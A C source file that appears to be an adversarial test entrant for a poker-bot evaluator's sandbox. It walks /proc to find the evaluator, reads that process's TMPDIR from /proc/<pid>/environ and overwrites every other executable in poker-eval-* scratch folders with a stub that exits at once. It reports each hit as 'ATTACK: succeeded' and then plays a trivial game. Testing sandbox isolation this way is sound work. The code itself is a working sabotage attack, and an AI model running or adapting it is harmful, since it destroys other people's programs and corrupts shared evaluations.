/* overwrite_others: replaces every other executable the evaluator built
 * with "#!/bin/sh\nexit 0" (which then exits before its first card).
 * Looks in the folder of its own executable when that is an evaluator
 * scratch folder (poker-eval-*), and in every poker-eval-* folder under
 * its $TMPDIR and under the evaluator's TMPDIR (/proc/<ppid>/environ),
 * one level of subfolders included. Prints "ATTACK: succeeded: overwrote
 * PATH" for each. Then plays round robin.
 * Unsandboxed it damages every evaluation running at the time under those
 * folders (it leaves a bare /tmp alone for that reason: there it only
 * attacks its own evaluation's folder): the tests give the evaluator a
 * private TMPDIR. */
#define _GNU_SOURCE
#include <sys/types.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include "poker.h"

/* The evaluator: the nearest ancestor named `poker`, found by walking
 * /proc/<pid>/stat from /proc/self (getppid() names no process outside a
 * PID namespace, where --sandbox off starts programs). 0 if none. */
static pid_t find_evaluator(void)
{
    char path[64], buf[512], *open_paren, *close_paren;
    int pid = 0, ppid, depth;
    for (depth = 0; depth < 64; depth++) {
        FILE *f;
        size_t n;
        if (depth == 0) snprintf(path, sizeof path, "/proc/self/stat");
        else snprintf(path, sizeof path, "/proc/%d/stat", pid);
        f = fopen(path, "r");
        if (!f) return 0;
        n = fread(buf, 1, sizeof buf - 1, f);
        fclose(f);
        buf[n] = 0;
        open_paren = strchr(buf, '(');
        close_paren = strrchr(buf, ')');
        if (!open_paren || !close_paren) return 0;
        if (depth > 0 && close_paren - open_paren == 6 && !strncmp(open_paren + 1, "poker", 5))
            return pid;
        if (sscanf(close_paren + 2, "%*c %d", &ppid) != 1 || ppid <= 0) return 0;
        pid = ppid;
    }
    return 0;
}

static const char SCRIPT[] = "#!/bin/sh\nexit 0\n";
static struct stat self;

static void overwrite(const char *path)
{
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd < 0) {
        /* Busy or read-only file: replace it instead. */
        if (unlink(path) != 0) return;
        fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0755);
        if (fd < 0) return;
    }
    if (write(fd, SCRIPT, sizeof SCRIPT - 1) == (ssize_t)(sizeof SCRIPT - 1))
        fprintf(stderr, "ATTACK: succeeded: overwrote %s\n", path);
    close(fd);
}

static void scan(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    if (!d) return;
    while ((e = readdir(d)) != NULL) {
        char path[4096];
        struct stat st;
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (lstat(path, &st) != 0) continue;
        if (S_ISDIR(st.st_mode) && depth > 0) scan(path, depth - 1);
        else if (S_ISREG(st.st_mode) && (st.st_mode & 0111)
                 && !(st.st_dev == self.st_dev && st.st_ino == self.st_ino))
            overwrite(path);
    }
    closedir(d);
}

/* Every poker-eval-* folder under `tmp`. */
static void scan_tmp(const char *tmp)
{
    DIR *d = opendir(tmp);
    struct dirent *e;
    if (!d) return;
    while ((e = readdir(d)) != NULL) {
        char path[4096];
        if (strncmp(e->d_name, "poker-eval-", 11) != 0) continue;
        snprintf(path, sizeof path, "%s/%s", tmp, e->d_name);
        scan(path, 1);
    }
    closedir(d);
}

int main(void)
{
    int i, v, c;
    char exe[4096], path[64], env[65536];
    ssize_t n;
    FILE *f;
    stat("/proc/self/exe", &self);
    n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n > 0) {
        char *slash;
        exe[n] = 0;
        slash = strrchr(exe, '/');
        if (slash) {
            *slash = 0;
            if (strstr(exe, "/poker-eval-")) {
                /* A pas-* build folder: go up to the scratch folder. */
                char *last = strrchr(exe, '/');
                if (last && strncmp(last + 1, "poker-eval-", 11) != 0) *last = 0;
                scan(exe, 1);
            }
        }
    }
    if (getenv("TMPDIR")) scan_tmp(getenv("TMPDIR"));
    snprintf(path, sizeof path, "/proc/%d/environ", (int)find_evaluator());
    f = find_evaluator() > 1 ? fopen(path, "r") : NULL;
    if (f) {
        size_t got = fread(env, 1, sizeof env - 1, f);
        const char *p;
        fclose(f);
        env[got] = 0;
        for (p = env; p < env + got; p += strlen(p) + 1)
            if (strncmp(p, "TMPDIR=", 7) == 0) scan_tmp(p + 7);
    }
    p_startgame();
    for (i = 1; i <= 20; i++) { p_look(&v, &c); p_place((i - 1) % 4 + 1); }
    return 0;
}
